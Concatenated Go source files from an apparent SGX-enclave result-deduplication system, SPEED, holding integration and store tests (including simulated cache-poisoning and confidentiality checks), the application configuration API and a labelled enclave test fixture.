	// The attacker controls the store machine's software stack: it can
	// read the stored triple directly given the tag.
	tag := mle.ComputeTag(vID, input)
	sealed, found, err := s.store.Get(tag)
	if err != nil || !found {
		t.Fatalf("attacker Get: found=%v err=%v", found, err)
	}

	// The blob must not contain the plaintext.
	if bytes.Contains(sealed.Blob, secretResult) {
		t.Fatal("stored blob leaks plaintext result")
	}

	// Decryption attempts with attacker-side knowledge must all fail:
	// wrong function identity (the attacker's own library), guessed
	// inputs, and the right input with the wrong identity.
	scheme := &mle.RCE{}
	var attackerID mle.FuncID
	attackerID[0] = 0xAA
	attempts := []struct {
		name  string
		id    mle.FuncID
		input []byte
	}{
		{"attacker code + victim input", attackerID, input},
		{"attacker code + guessed input", attackerID, []byte("guess")},
		{"victim id + wrong input", vID, []byte("guess")},
	}
	for _, a := range attempts {
		if _, err := scheme.Decrypt(a.id, a.input, sealed); !errors.Is(err, mle.ErrAuthFailed) {
			t.Errorf("%s: Decrypt = %v, want ErrAuthFailed", a.name, err)
		}
	}

	// But an independent party that DOES own the computation succeeds
	// — that is the deduplication functionality itself.
	if res, err := scheme.Decrypt(vID, input, sealed); err != nil || !bytes.Equal(res, secretResult) {
		t.Errorf("legitimate decrypt = (%q, %v)", res, err)
	}
}

// Cache poisoning (Sections III-D / II-C): a store-controlling
// adversary substitutes blobs, challenges and wrapped keys; the victim
// never accepts a wrong result — it either reuses a correct one or
// recomputes.
func TestCachePoisoningNeverYieldsWrongResults(t *testing.T) {
	blobs := store.NewMemBlobStore()
	s := newStack(t, store.Config{Blobs: blobs}, enclave.Config{})
	app := s.newApp("app")
	id := appFuncID(t, app, "f")

	compute := func(in []byte) ([]byte, error) {
		return append([]byte("good-"), in...), nil
	}
	input := []byte("x")
	if _, _, err := app.Execute(id, input, compute); err != nil {
		t.Fatalf("Execute: %v", err)
	}

	// Poison the untrusted blob storage: overwrite every blob with
	// attacker bytes (BlobIDs are small integers).
	for i := store.BlobID(1); i <= 4; i++ {
		if _, err := blobs.Get(i); err == nil {
			_ = blobs.Delete(i)
			if _, err := blobs.Put([]byte("attacker-controlled bytes")); err != nil {
				t.Fatalf("poison Put: %v", err)
			}
		}
	}

	res, outcome, err := app.Execute(id, input, compute)
	if err != nil {
		t.Fatalf("Execute after poisoning: %v", err)
	}
	if string(res) != "good-x" {
		t.Fatalf("poisoned store produced wrong result %q", res)
	}
	// Either the blob vanished (treated as miss -> computed) or failed
	// verification (recomputed); both are safe.
	if outcome == dedup.OutcomeReused {
		t.Fatalf("poisoned entry was reused")
	}
}

// Equality-information bound (Section II-C): the only information the
// store learns about a computation is its tag; two computations with
// different inputs yield unlinkable tags and ciphertexts.
func TestStoreSeesOnlyTags(t *testing.T) {
	s := newStack(t, store.Config{}, enclave.Config{})
	app := s.newApp("app")
	id := appFuncID(t, app, "f")

	inputA := []byte("AAAAAAAAAAAAAAAAAAAAAAAA")
	inputB := append([]byte(nil), inputA...)
	inputB[0] ^= 1 // one-bit difference

	result := []byte("identical result value for both inputs")
	compute := func([]byte) ([]byte, error) { return result, nil }
	if _, _, err := app.Execute(id, inputA, compute); err != nil {
		t.Fatalf("Execute A: %v", err)
	}
	if _, _, err := app.Execute(id, inputB, compute); err != nil {
		t.Fatalf("Execute B: %v", err)
	}

	tagA := mle.ComputeTag(id, inputA)
	tagB := mle.ComputeTag(id, inputB)
	if tagA == tagB {
		t.Fatal("distinct inputs produced equal tags")
	}
	sealedA, _, err := s.store.Get(tagA)
	if err != nil {
		t.Fatalf("Get A: %v", err)
	}
	sealedB, _, err := s.store.Get(tagB)
	if err != nil {
		t.Fatalf("Get B: %v", err)
	}
	// Same plaintext result, but ciphertexts, challenges and wrapped
	// keys are all distinct (randomized encryption): the store cannot
	// link them.
	if bytes.Equal(sealedA.Blob, sealedB.Blob) {
		t.Error("equal-result computations produced equal ciphertexts")
	}
	if bytes.Equal(sealedA.Challenge, sealedB.Challenge) {
		t.Error("challenges repeat across entries")
	}
	if bytes.Equal(sealedA.WrappedKey, sealedB.WrappedKey) {
		t.Error("wrapped keys repeat across entries")
	}
	// And neither blob contains the plaintext.
	if bytes.Contains(sealedA.Blob, result) || bytes.Contains(sealedB.Blob, result) {
		t.Error("ciphertext leaks plaintext")
	}
}

// Input confidentiality: the stored triple must not contain the
// function input either (inputs never leave the enclave; only their
// hash contributions do).
func TestInputsNeverStored(t *testing.T) {
	s := newStack(t, store.Config{}, enclave.Config{})
	app := s.newApp("app")
	id := appFuncID(t, app, "f")
	input := []byte("HIGHLY-IDENTIFIABLE-INPUT-MARKER-0123456789")
	if _, _, err := app.Execute(id, input, func(in []byte) ([]byte, error) {
		return []byte("result"), nil
	}); err != nil {
		t.Fatalf("Execute: %v", err)
	}
	tag := mle.ComputeTag(id, input)
	sealed, found, err := s.store.Get(tag)
	if err != nil || !found {
		t.Fatalf("Get: found=%v err=%v", found, err)
	}
	for name, field := range map[string][]byte{
		"blob":       sealed.Blob,
		"challenge":  sealed.Challenge,
		"wrappedKey": sealed.WrappedKey,
	} {
		if bytes.Contains(field, input) {
			t.Errorf("%s contains the plaintext input", name)
		}
	}
}
