// Package integration_test exercises end-to-end scenarios across all
// SPEED modules: real workloads over the full enclave + runtime +
// store + wire stack, restart recovery, replication, and failure
// injection.
package integration_test

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"sync"
	"testing"

	"speed/internal/compress"
	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/pattern"
	"speed/internal/sift"
	"speed/internal/store"
	"speed/internal/wire"
	"speed/internal/workload"
)

// mkStack builds platform + store (+ options) and returns a runtime
// factory for apps on that platform.
type stack struct {
	t        *testing.T
	platform *enclave.Platform
	storeEnc *enclave.Enclave
	store    *store.Store
}

func newStack(t *testing.T, storeCfg store.Config, platCfg enclave.Config) *stack {
	t.Helper()
	p := enclave.NewPlatform(platCfg)
	storeEnc, err := p.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("create store enclave: %v", err)
	}
	storeCfg.Enclave = storeEnc
	st, err := store.New(storeCfg)
	if err != nil {
		t.Fatalf("store.New: %v", err)
	}
	return &stack{t: t, platform: p, storeEnc: storeEnc, store: st}
}

func (s *stack) newApp(name string) *dedup.Runtime {
	s.t.Helper()
	enc, err := s.platform.Create(name, []byte(name+" code"))
	if err != nil {
		s.t.Fatalf("create app enclave: %v", err)
	}
	rt, err := dedup.NewRuntime(dedup.Config{
		Enclave: enc,
		Client:  dedup.NewLocalClient(s.store, enc.Measurement()),
		Logf:    func(string, ...any) {},
	})
	if err != nil {
		s.t.Fatalf("NewRuntime: %v", err)
	}
	s.t.Cleanup(func() { _ = rt.Close() })
	rt.Registry().RegisterLibrary("applib", "1.0", []byte("app library code"))
	return rt
}

func appFuncID(t *testing.T, rt *dedup.Runtime, sig string) mle.FuncID {
	t.Helper()
	id, err := rt.Resolve(dedup.FuncDesc{Library: "applib", Version: "1.0", Signature: sig})
	if err != nil {
		t.Fatalf("Resolve: %v", err)
	}
	return id
}

// TestAllWorkloadsEndToEnd runs all four paper workloads through the
// full stack and cross-checks deduplicated results against direct
// computation.
func TestAllWorkloadsEndToEnd(t *testing.T) {
	s := newStack(t, store.Config{}, enclave.Config{})
	rt := s.newApp("app")
	gen := workload.New(55)

	// Case 1: SIFT.
	img := gen.Image(96, 96)
	siftID := appFuncID(t, rt, "sift")
	siftCompute := func(in []byte) ([]byte, error) {
		g, err := sift.DecodeGray(in)
		if err != nil {
			return nil, err
		}
		return sift.EncodeKeypoints(sift.Detect(g, sift.DefaultParams())), nil
	}
	input := sift.EncodeGray(img)
	direct, err := siftCompute(input)
	if err != nil {
		t.Fatalf("sift direct: %v", err)
	}
	got1, _, err := rt.Execute(siftID, input, siftCompute)
	if err != nil {
		t.Fatalf("sift execute: %v", err)
	}
	got2, outcome, err := rt.Execute(siftID, input, siftCompute)
	if err != nil {
		t.Fatalf("sift execute 2: %v", err)
	}
	if outcome != dedup.OutcomeReused {
		t.Errorf("sift outcome = %v, want reused", outcome)
	}
	if !bytes.Equal(got1, direct) || !bytes.Equal(got2, direct) {
		t.Error("sift deduplicated result differs from direct computation")
	}

	// Case 2: compression (verify reuse AND that the reused blob
	// decompresses to the original).
	text := gen.Text(100 << 10)
	zID := appFuncID(t, rt, "deflate")
	zCompute := func(in []byte) ([]byte, error) { return compress.Compress(in), nil }
	if _, _, err := rt.Execute(zID, text, zCompute); err != nil {
		t.Fatalf("compress execute: %v", err)
	}
	comp, outcome, err := rt.Execute(zID, text, zCompute)
	if err != nil {
		t.Fatalf("compress execute 2: %v", err)
	}
	if outcome != dedup.OutcomeReused {
		t.Errorf("compress outcome = %v, want reused", outcome)
	}
	plain, err := compress.Decompress(comp)
	if err != nil || !bytes.Equal(plain, text) {
		t.Errorf("reused compressed blob does not round-trip: %v", err)
	}

	// Case 3: pattern matching via parsed Snort-like rules.
	var rulesText bytes.Buffer
	for _, r := range gen.SnortRules(300) {
		rulesText.WriteString(pattern.FormatRule(r))
		rulesText.WriteByte('\n')
	}
	parsed, err := pattern.ParseRules(&rulesText)
	if err != nil {
		t.Fatalf("ParseRules: %v", err)
	}
	rs, err := pattern.CompileRules(parsed)
	if err != nil {
		t.Fatalf("CompileRules: %v", err)
	}
	pkt := gen.Packet(32<<10, parsed, 0.5)
	pID := appFuncID(t, rt, "scan")
	pCompute := func(in []byte) ([]byte, error) {
		return pattern.EncodeScanResult(rs.Scan(in)), nil
	}
	if _, _, err := rt.Execute(pID, pkt, pCompute); err != nil {
		t.Fatalf("pattern execute: %v", err)
	}
	res, outcome, err := rt.Execute(pID, pkt, pCompute)
	if err != nil {
		t.Fatalf("pattern execute 2: %v", err)
	}
	if outcome != dedup.OutcomeReused {
		t.Errorf("pattern outcome = %v, want reused", outcome)
	}
	wantIDs := rs.Scan(pkt)
	gotIDs, err := pattern.DecodeScanResult(res)
	if err != nil {
		t.Fatalf("DecodeScanResult: %v", err)
	}
	if fmt.Sprint(gotIDs) != fmt.Sprint(wantIDs) {
		t.Errorf("reused scan = %v, want %v", gotIDs, wantIDs)
	}

	if got := s.store.Len(); got != 3 {
		t.Errorf("store entries = %d, want 3", got)
	}
}

// TestRestartRecoveryWithSnapshotAndDiskBlobs models a full store
// restart: sealed metadata snapshot + disk blob directory survive; a
// fresh process (same machine seed, same store code) restores and
// applications keep hitting.
func TestRestartRecoveryWithSnapshotAndDiskBlobs(t *testing.T) {
	dir := t.TempDir()
	seed := []byte("machine-7")

	mkStack := func() *stack {
		blobs, err := store.NewDiskBlobStore(dir)
		if err != nil {
			t.Fatalf("NewDiskBlobStore: %v", err)
		}
		return newStack(t, store.Config{Blobs: blobs}, enclave.Config{PlatformSeed: seed})
	}

	s1 := mkStack()
	rt1 := s1.newApp("app")
	id := appFuncID(t, rt1, "expensive")
	compute := func(in []byte) ([]byte, error) {
		return append([]byte("result-of-"), in...), nil
	}
	for i := 0; i < 10; i++ {
		if _, _, err := rt1.Execute(id, []byte(fmt.Sprintf("input-%d", i)), compute); err != nil {
			t.Fatalf("Execute: %v", err)
		}
	}
	snap, err := s1.store.SealSnapshot()
	if err != nil {
		t.Fatalf("SealSnapshot: %v", err)
	}
	s1.store.Close()

	// "Restart".
	s2 := mkStack()
	n, err := s2.store.RestoreSnapshot(snap)
	if err != nil {
		t.Fatalf("RestoreSnapshot: %v", err)
	}
	if n != 10 {
		t.Fatalf("restored %d entries, want 10", n)
	}
	rt2 := s2.newApp("app")
	id2 := appFuncID(t, rt2, "expensive")
	for i := 0; i < 10; i++ {
		res, outcome, err := rt2.Execute(id2, []byte(fmt.Sprintf("input-%d", i)), func([]byte) ([]byte, error) {
			t.Error("recomputed after restore")
			return nil, nil
		})
		if err != nil {
			t.Fatalf("Execute after restore: %v", err)
		}
		if outcome != dedup.OutcomeReused {
			t.Errorf("input %d outcome = %v, want reused", i, outcome)
		}
		if want := fmt.Sprintf("result-of-input-%d", i); string(res) != want {
			t.Errorf("restored result = %q, want %q", res, want)
		}
	}
}

// TestReplicationAcrossMachines: two edge deployments compute
// independently; the master periodically syncs popular results; a
// consumer attached to the master reuses results it never computed —
// across machines, with no shared key, via the RCE scheme.
func TestReplicationAcrossMachines(t *testing.T) {
	edge1 := newStack(t, store.Config{}, enclave.Config{})
	edge2 := newStack(t, store.Config{}, enclave.Config{})
	master := newStack(t, store.Config{}, enclave.Config{})

	rtA := edge1.newApp("producer-A")
	rtB := edge2.newApp("producer-B")
	idA := appFuncID(t, rtA, "shared-func")
	idB := appFuncID(t, rtB, "shared-func")
	if idA != idB {
		t.Fatal("same library resolved differently across machines")
	}

	compute := func(in []byte) ([]byte, error) {
		return append([]byte("R:"), in...), nil
	}
	// Each edge computes some inputs, with overlap; popular inputs
	// get multiple hits.
	for i := 0; i < 6; i++ {
		input := []byte(fmt.Sprintf("in-%d", i))
		if _, _, err := rtA.Execute(idA, input, compute); err != nil {
			t.Fatalf("A Execute: %v", err)
		}
	}
	for i := 4; i < 10; i++ {
		input := []byte(fmt.Sprintf("in-%d", i))
		if _, _, err := rtB.Execute(idB, input, compute); err != nil {
			t.Fatalf("B Execute: %v", err)
		}
	}
	// Drive popularity: hit each store once more per entry.
	for i := 0; i < 6; i++ {
		rtA.Execute(idA, []byte(fmt.Sprintf("in-%d", i)), compute)
	}
	for i := 4; i < 10; i++ {
		rtB.Execute(idB, []byte(fmt.Sprintf("in-%d", i)), compute)
	}

	// Sync popular results edge → master the way cluster.Syncer does:
	// export entries with at least one hit and install them, first
	// version winning.
	for _, edge := range []*store.Store{edge1.store, edge2.store} {
		entries, err := edge.Export(1)
		if err != nil {
			t.Fatalf("Export: %v", err)
		}
		for _, e := range entries {
			if _, err := master.store.Put(e.Owner, e.Tag, e.Sealed); err != nil {
				t.Fatalf("sync Put: %v", err)
			}
		}
	}
	// 10 distinct inputs total; overlapping tags stored once.
	if got := master.store.Len(); got != 10 {
		t.Errorf("master entries = %d, want 10", got)
	}

	rtC := master.newApp("consumer-C")
	idC := appFuncID(t, rtC, "shared-func")
	for i := 0; i < 10; i++ {
		input := []byte(fmt.Sprintf("in-%d", i))
		res, outcome, err := rtC.Execute(idC, input, func([]byte) ([]byte, error) {
			t.Errorf("consumer recomputed input %d", i)
			return nil, nil
		})
		if err != nil {
			t.Fatalf("C Execute: %v", err)
		}
		if outcome != dedup.OutcomeReused {
			t.Errorf("input %d outcome = %v, want reused", i, outcome)
		}
		if want := "R:" + string(input); string(res) != want {
			t.Errorf("consumer result = %q, want %q", res, want)
		}
	}
}

// flakyBlobStore fails every nth operation, injecting untrusted-storage
// faults.
type flakyBlobStore struct {
	inner store.BlobStore
	mu    sync.Mutex
	n     int
	count int
}

func (f *flakyBlobStore) tick() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.count++
	return f.count%f.n == 0
}

func (f *flakyBlobStore) Put(data []byte) (store.BlobID, error) {
	if f.tick() {
		return 0, errors.New("injected blob put failure")
	}
	return f.inner.Put(data)
}

func (f *flakyBlobStore) Get(id store.BlobID) ([]byte, error) {
	if f.tick() {
		return nil, errors.New("injected blob get failure")
	}
	return f.inner.Get(id)
}

func (f *flakyBlobStore) Delete(id store.BlobID) error { return f.inner.Delete(id) }
func (f *flakyBlobStore) Bytes() int64                 { return f.inner.Bytes() }

// TestFlakyUntrustedStorage: faults in the untrusted blob store must
// never produce wrong results — only recomputation.
func TestFlakyUntrustedStorage(t *testing.T) {
	s := newStack(t, store.Config{
		Blobs: &flakyBlobStore{inner: store.NewMemBlobStore(), n: 3},
	}, enclave.Config{})
	rt := s.newApp("app")
	id := appFuncID(t, rt, "f")

	compute := func(in []byte) ([]byte, error) {
		return append([]byte("ok-"), in...), nil
	}
	for round := 0; round < 5; round++ {
		for i := 0; i < 10; i++ {
			input := []byte(fmt.Sprintf("in-%d", i))
			res, _, err := rt.Execute(id, input, compute)
			if err != nil {
				t.Fatalf("Execute round %d input %d: %v", round, i, err)
			}
			if want := "ok-" + string(input); string(res) != want {
				t.Fatalf("wrong result under storage faults: %q != %q", res, want)
			}
		}
	}
	if got := rt.Stats().Reused; got == 0 {
		t.Error("no reuse at all despite mostly-working storage")
	}
}

// TestQuotaIsolationEndToEnd: one flooding application exhausts its
// quota; a well-behaved application is unaffected.
func TestQuotaIsolationEndToEnd(t *testing.T) {
	s := newStack(t, store.Config{
		Quota: store.QuotaConfig{MaxBytesPerApp: 2 << 10},
	}, enclave.Config{})
	flooder := s.newApp("flooder")
	good := s.newApp("good")
	fID := appFuncID(t, flooder, "flood")
	gID := appFuncID(t, good, "good")

	// The flooder uploads big results until its quota denies.
	big := func(in []byte) ([]byte, error) { return make([]byte, 1<<10), nil }
	for i := 0; i < 10; i++ {
		if _, _, err := flooder.Execute(fID, []byte(fmt.Sprintf("f-%d", i)), big); err != nil {
			t.Fatalf("flooder Execute: %v", err)
		}
	}
	if got := flooder.Stats().PutErrors; got == 0 {
		t.Error("flooder never hit quota")
	}

	// The good app still stores and reuses.
	small := func(in []byte) ([]byte, error) { return []byte("small"), nil }
	if _, _, err := good.Execute(gID, []byte("g"), small); err != nil {
		t.Fatalf("good Execute: %v", err)
	}
	_, outcome, err := good.Execute(gID, []byte("g"), small)
	if err != nil {
		t.Fatalf("good Execute 2: %v", err)
	}
	if outcome != dedup.OutcomeReused {
		t.Errorf("good outcome = %v, want reused (unaffected by flooder)", outcome)
	}
}

// TestNetworkedStackWithAuthorization: remote clients over the real
// TCP + attested channel path with an ACL at the store.
func TestNetworkedStackWithAuthorization(t *testing.T) {
	acl := store.NewACL(0)
	s := newStack(t, store.Config{Auth: acl}, enclave.Config{})

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	srv := store.NewServer(s.store, ln, store.WithLogf(func(string, ...any) {}))
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		_ = srv.Serve()
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		wg.Wait()
	})

	mkRemoteApp := func(name string) *dedup.Runtime {
		enc, err := s.platform.Create(name, []byte(name+" code"))
		if err != nil {
			t.Fatalf("create enclave: %v", err)
		}
		client, err := dedup.Dial(ln.Addr().String(), enc, s.storeEnc.Measurement())
		if err != nil {
			t.Fatalf("Dial: %v", err)
		}
		rt, err := dedup.NewRuntime(dedup.Config{
			Enclave: enc,
			Client:  client,
			Logf:    func(string, ...any) {},
		})
		if err != nil {
			t.Fatalf("NewRuntime: %v", err)
		}
		t.Cleanup(func() { _ = rt.Close() })
		rt.Registry().RegisterLibrary("applib", "1.0", []byte("app library code"))
		return rt
	}

	authorized := mkRemoteApp("authorized")
	stranger := mkRemoteApp("stranger")
	acl.Grant(authorized.Enclave().Measurement(), store.PermAll)

	aID := appFuncID(t, authorized, "f")
	sID := appFuncID(t, stranger, "f")
	compute := func(in []byte) ([]byte, error) { return []byte("res"), nil }

	if _, _, err := authorized.Execute(aID, []byte("x"), compute); err != nil {
		t.Fatalf("authorized Execute: %v", err)
	}
	if _, outcome, err := authorized.Execute(aID, []byte("x"), compute); err != nil || outcome != dedup.OutcomeReused {
		t.Errorf("authorized reuse = (%v, %v)", outcome, err)
	}

	// The stranger's GET is denied (served as miss) and its PUT is
	// rejected; the call still succeeds via local computation.
	res, outcome, err := stranger.Execute(sID, []byte("x"), compute)
	if err != nil {
		t.Fatalf("stranger Execute: %v", err)
	}
	if outcome != dedup.OutcomeComputed || string(res) != "res" {
		t.Errorf("stranger = (%q, %v), want computed res", res, outcome)
	}
	if got := stranger.Stats().PutErrors; got != 1 {
		t.Errorf("stranger PutErrors = %d, want 1", got)
	}
	if got := s.store.Stats().Unauthorized; got == 0 {
		t.Error("no unauthorized operations recorded at the store")
	}
}

// TestChannelCutMidSession: killing the TCP connection surfaces errors
// to the client rather than hanging or corrupting.
func TestChannelCutMidSession(t *testing.T) {
	s := newStack(t, store.Config{}, enclave.Config{})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	srv := store.NewServer(s.store, ln, store.WithLogf(func(string, ...any) {}))
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		_ = srv.Serve()
	}()

	enc, err := s.platform.Create("app", []byte("app code"))
	if err != nil {
		t.Fatalf("create enclave: %v", err)
	}
	client, err := dedup.Dial(ln.Addr().String(), enc, s.storeEnc.Measurement())
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer client.Close()

	var tag mle.Tag
	tag[0] = 9
	if err := client.Put(tag, mle.Sealed{Blob: []byte("x")}, false); err != nil {
		t.Fatalf("Put: %v", err)
	}

	// Cut the server.
	_ = srv.Close()
	wg.Wait()

	if _, _, err := client.Get(tag); err == nil {
		t.Error("Get over a cut channel succeeded")
	}
}

var _ = wire.MaxFrameSize // keep the wire package exercised/linked here
