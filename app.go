package speed

import (
	"fmt"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/telemetry"
	"speed/internal/wire"
)

// AppConfig tunes one SGX-enabled application.
type AppConfig struct {
	// AsyncPut moves the PUT pipeline (key generation, result
	// encryption, store update) to a background worker, the
	// optimization suggested in Section V-B of the paper. Off by
	// default, matching the measured "Init. Comp." cost which includes
	// secure result storing.
	AsyncPut bool
	// SingleKey switches the result encryption to the basic design of
	// Section III-B: one system-wide key shared by all applications.
	// Provided for comparison; the default cross-application RCE
	// scheme needs no shared key.
	SingleKey *[16]byte
	// RemoteStoreAddr, when set, connects the application to a
	// networked ResultStore (created with System.Serve on another
	// System) instead of this System's local store.
	// RemoteStoreMeasurement pins the expected store identity.
	RemoteStoreAddr        string
	RemoteStoreMeasurement Measurement
	// TrustedStorePlatforms lists platform attestation keys (from
	// System.AttestationKey on the store's machine) accepted for a
	// remote store on a DIFFERENT machine. Without it, the remote
	// store must live on this application's own platform.
	TrustedStorePlatforms [][]byte
	// Adaptive enables the automatic deduplication strategy of the
	// paper's future-work section: the runtime profiles each marked
	// function (compute cost, dedup overhead, hit rate) and bypasses
	// the store for functions where deduplication does not pay.
	Adaptive bool
	// AdaptiveMinSamples, AdaptiveBenefitThreshold and
	// AdaptiveProbation tune the adaptive policy; zero values take the
	// defaults.
	AdaptiveMinSamples       int
	AdaptiveBenefitThreshold float64
	AdaptiveProbation        int
	// MetricsAddr, when non-empty (e.g. "127.0.0.1:0"), serves the
	// deployment's telemetry registry over HTTP for the lifetime of the
	// App: /metrics (Prometheus text format), /debug/trace (sampled
	// trace events) and /debug/vars (JSON snapshot). The bound address
	// is available from App.MetricsAddr.
	MetricsAddr string
	// TraceSampleRate traces one Execute call in every N into the
	// registry's trace ring. 0 uses the default (64); negative disables
	// tracing.
	TraceSampleRate int
	// SlowRequestThreshold logs a structured line (rate-limited to one
	// per second) for any Execute call slower than this, carrying the
	// call's trace ID when it was sampled so the line links straight to
	// /debug/trace?id=. 0 disables slow-request logging.
	SlowRequestThreshold time.Duration
}

// App is one SGX-enabled application: its enclave plus the secure
// deduplication runtime linked into it.
type App struct {
	enclave *enclave.Enclave
	runtime *dedup.Runtime
	advisor *dedup.Advisor // non-nil when adaptive
	tel     *telemetry.Registry
	metrics *telemetry.MetricsServer // non-nil when MetricsAddr was set
}

// NewApp creates an application enclave on the deployment's platform
// whose measurement derives from code, and links a deduplication
// runtime connected to the deployment's local ResultStore.
func (s *System) NewApp(name string, code []byte) (*App, error) {
	return s.NewAppWithConfig(name, code, AppConfig{})
}

// NewAppWithConfig is NewApp with explicit configuration.
func (s *System) NewAppWithConfig(name string, code []byte, cfg AppConfig) (*App, error) {
	enc, err := s.platform.Create(name, code)
	if err != nil {
		return nil, fmt.Errorf("speed: create app enclave: %w", err)
	}

	var client dedup.StoreClient
	if cfg.RemoteStoreAddr != "" {
		var trust *wire.Trust
		if len(cfg.TrustedStorePlatforms) > 0 {
			trust = &wire.Trust{PlatformKeys: cfg.TrustedStorePlatforms}
		}
		client, err = dedup.DialConfig(cfg.RemoteStoreAddr, enc, cfg.RemoteStoreMeasurement,
			dedup.RemoteConfig{Trust: trust, Telemetry: s.tel})
		if err != nil {
			enc.Destroy()
			return nil, fmt.Errorf("speed: connect remote store: %w", err)
		}
	} else {
		client = dedup.NewLocalClient(s.store, enc.Measurement())
	}

	var scheme mle.Scheme
	if cfg.SingleKey != nil {
		scheme = mle.NewSingleKey(*cfg.SingleKey, nil)
	}

	rt, err := dedup.NewRuntime(dedup.Config{
		Enclave:              enc,
		Client:               client,
		Scheme:               scheme,
		AsyncPut:             cfg.AsyncPut,
		Telemetry:            s.tel,
		TraceSampleRate:      cfg.TraceSampleRate,
		SlowRequestThreshold: cfg.SlowRequestThreshold,
	})
	if err != nil {
		enc.Destroy()
		return nil, fmt.Errorf("speed: create runtime: %w", err)
	}
	enc.RegisterTelemetry(s.tel)
	app := &App{enclave: enc, runtime: rt, tel: s.tel}
	if cfg.MetricsAddr != "" {
		ms, err := telemetry.Serve(cfg.MetricsAddr, s.tel)
		if err != nil {
			_ = rt.Close()
			enc.Destroy()
			return nil, fmt.Errorf("speed: metrics listener: %w", err)
		}
		app.metrics = ms
		// Stamp the registry with an externally-visible identity once,
		// so spans this deployment records stay attributable in traces
		// assembled across the fleet.
		if s.tel.Node() == "" {
			s.tel.SetNode(ms.Addr().String())
		}
	}
	if cfg.Adaptive {
		app.advisor = dedup.NewAdvisor(dedup.AdaptivePolicy{
			MinSamples:       cfg.AdaptiveMinSamples,
			BenefitThreshold: cfg.AdaptiveBenefitThreshold,
			Probation:        cfg.AdaptiveProbation,
		})
	}
	return app, nil
}

// RegisterLibrary records a trusted library (name, version, code) as
// present at this application, enabling Deduplicable wrappers over its
// functions. This models porting the library into the enclave as a
// trusted library.
func (a *App) RegisterLibrary(library, version string, code []byte) {
	a.runtime.Registry().RegisterLibrary(library, version, code)
}

// Measurement returns the application enclave's measurement.
func (a *App) Measurement() Measurement { return a.enclave.Measurement() }

// AppStats is a snapshot of the application's deduplication activity.
type AppStats struct {
	// Calls counts deduplicable invocations; Reused those served from
	// the store; Computed fresh executions; Coalesced calls that
	// shared an in-flight computation in this process.
	Calls, Reused, Computed, Coalesced int64
	// VerifyFailures counts stored entries rejected by the
	// verification protocol; PutErrors failed uploads.
	VerifyFailures, PutErrors int64
	// BytesReused totals plaintext result bytes served from the store
	// or from coalesced computations.
	BytesReused int64
	// Degraded counts calls served compute-only because the store was
	// unreachable; StoreFailures store transport failures; Retries
	// request retries performed by the store client.
	Degraded, StoreFailures, Retries int64
	// ECalls and OCalls count the application enclave's world switches;
	// PageFaults its EPC paging events; AllocBytes its cumulative
	// protected-heap allocations. Together they expose the SGX-side
	// cost the deduplication latencies are traded against.
	ECalls, OCalls, PageFaults, AllocBytes int64
}

// Stats returns a snapshot of the application's counters.
func (a *App) Stats() AppStats {
	st := a.runtime.Stats()
	em := a.enclave.Metrics()
	return AppStats{
		Calls: st.Calls, Reused: st.Reused, Computed: st.Computed,
		Coalesced:      st.Coalesced,
		VerifyFailures: st.VerifyFailures, PutErrors: st.PutErrors,
		BytesReused: st.BytesReused,
		Degraded:    st.Degraded, StoreFailures: st.StoreFailures, Retries: st.Retries,
		ECalls: em.ECalls, OCalls: em.OCalls,
		PageFaults: em.PageFaults, AllocBytes: em.AllocBytes,
	}
}

// Telemetry returns the deployment-wide metric registry this App
// reports into (shared with the System that created it).
func (a *App) Telemetry() *telemetry.Registry { return a.tel }

// MetricsAddr returns the bound address of the App's metrics endpoint,
// or "" when AppConfig.MetricsAddr was not set.
func (a *App) MetricsAddr() string {
	if a.metrics == nil {
		return ""
	}
	return a.metrics.Addr().String()
}

// Close drains pending uploads, disconnects from the store, stops the
// metrics endpoint if one was started, and destroys the application
// enclave.
func (a *App) Close() error {
	err := a.runtime.Close()
	if a.metrics != nil {
		if cerr := a.metrics.Close(); err == nil {
			err = cerr
		}
	}
	a.enclave.Destroy()
	return err
}
