// Package enclave is the fixture stand-in for the enclave simulator's
// exported surface.
package enclave

// VerifyQuote is an attestation primitive: wire-handshake only.
func VerifyQuote(q []byte) error { return nil }

// UnmarshalQuote is an attestation primitive: wire-handshake only.
func UnmarshalQuote(b []byte) ([]byte, error) { return b, nil }

// Enclave exposes the sealing primitives: store layer only.
type Enclave struct{}

func (Enclave) Seal(b []byte) ([]byte, error)   { return b, nil }
func (Enclave) Unseal(b []byte) ([]byte, error) { return b, nil }
