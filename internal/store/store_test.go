package store

import (
	"bytes"
	"crypto/sha256"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
)

func testEnclave(t *testing.T) *enclave.Enclave {
	t.Helper()
	p := enclave.NewPlatform(enclave.Config{})
	e, err := p.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	return e
}

func testStore(t *testing.T, cfg Config) *Store {
	t.Helper()
	if cfg.Enclave == nil {
		cfg.Enclave = testEnclave(t)
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return s
}

func tagOf(s string) mle.Tag {
	return mle.Tag(sha256.Sum256([]byte(s)))
}

func ownerOf(s string) enclave.Measurement {
	return enclave.Measurement(sha256.Sum256([]byte(s)))
}

func sealedOf(s string) mle.Sealed {
	return mle.Sealed{
		Challenge:  []byte("challenge-16byte"),
		WrappedKey: []byte("wrappedkey16byte"),
		Blob:       []byte(s),
	}
}

func TestNewRequiresEnclave(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Error("New accepted a nil enclave")
	}
}

func TestGetMissThenPutThenHit(t *testing.T) {
	s := testStore(t, Config{})
	tag := tagOf("t1")

	_, found, err := s.Get(tag)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if found {
